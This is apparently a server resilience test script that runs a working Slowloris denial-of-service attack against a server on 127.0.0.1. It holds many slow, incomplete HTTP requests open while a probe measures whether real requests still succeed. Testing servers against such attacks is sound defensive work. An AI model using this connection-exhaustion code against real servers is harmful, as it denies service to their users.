#!/usr/bin/env python3
"""Slowloris against a server on 127.0.0.1 while a client probes it.

usage: slowloris.py PORT PATH CONNS NADDRS SECONDS [PROBE_ADDR]

Keeps CONNS connections from 127.0.0.10 .. 127.0.0.(10+NADDRS-1), each
sending an incomplete request head and then one more header line every
0.5 s; a connection the server closes is opened again (as slowhttptest
does).  Meanwhile a probe from PROBE_ADDR (default 127.0.0.200) GETs PATH
every 0.1 s with a deadline of DEADLINE s (5) for the whole answer.  After
SECONDS prints:

    attack: N connections held (M reopened)
    probe: OK/TOTAL within 5 s (F within 1 s), median X ms, max Y ms

and exits 0 when at least 99% of the probes were answered 200 within the
deadline: generous, so that a loaded machine does not fail it, while a
server the attack starves answers none; the figures show how fast it was.
"""
import resource
import selectors
import socket
import sys
import time

port, path = int(sys.argv[1]), sys.argv[2]
conns, naddrs, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
probe_addr = sys.argv[6] if len(sys.argv) > 6 else "127.0.0.200"
DEADLINE = 5.0

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

sel = selectors.DefaultSelector()
attackers = {}      # socket -> lines sent
reopened = 0


def open_attacker(i):
    s = socket.socket()
    s.setblocking(False)
    s.bind(("127.0.0.%d" % (10 + i % naddrs), 0))
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    sel.register(s, selectors.EVENT_WRITE, i)
    attackers[s] = 0


def drop(s):
    sel.unregister(s)
    del attackers[s]
    s.close()


def probe():
    start = time.monotonic()
    s = socket.socket()
    s.settimeout(DEADLINE)
    try:
        s.bind((probe_addr, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(("GET %s HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n"
                   % path).encode())
        data = b""
        while True:
            left = DEADLINE - (time.monotonic() - start)
            if left <= 0:
                return None
            s.settimeout(left)
            b = s.recv(65536)
            if not b:
                break
            data += b
        if not data.startswith(b"HTTP/1.1 200 "):
            return None
        return time.monotonic() - start
    except OSError:
        return None
    finally:
        s.close()


for i in range(conns):
    open_attacker(i)

end = time.monotonic() + seconds
next_tick = time.monotonic()
next_probe = time.monotonic() + 0.5     # let the attack build up first
results = []
while time.monotonic() < end:
    now = time.monotonic()
    for key, _ in sel.select(timeout=0.02):
        s, i = key.fileobj, key.data
        try:
            if attackers[s] == 0:
                s.send(("GET %s HTTP/1.1\r\nHost: x\r\n" % path).encode())
                attackers[s] = 1
                sel.modify(s, selectors.EVENT_READ, i)
            elif s.recv(4096) == b"":
                raise ConnectionResetError
        except OSError:
            drop(s)
            reopened += 1
            open_attacker(i)
    if now >= next_tick:
        next_tick = now + 0.5
        for s, n in list(attackers.items()):
            if n == 0:
                continue
            try:
                s.send(b"X-a%d: b\r\n" % n)
                attackers[s] = n + 1
            except OSError:
                i = sel.get_key(s).data
                drop(s)
                reopened += 1
                open_attacker(i)
    if now >= next_probe:
        next_probe = now + 0.1
        results.append(probe())

held = sum(1 for n in attackers.values() if n > 0)
good = sorted(r for r in results if r is not None)
print("attack: %d connections held (%d reopened)" % (held, reopened))
if good:
    print("probe: %d/%d within %g s (%d within 1 s), median %.1f ms, max %.1f ms" %
          (len(good), len(results), DEADLINE, sum(1 for r in good if r <= 1.0),
           good[len(good) // 2] * 1000, good[-1] * 1000))
else:
    print("probe: 0/%d within %g s" % (len(results), DEADLINE))
sys.exit(0 if results and len(good) >= 0.99 * len(results) else 1)
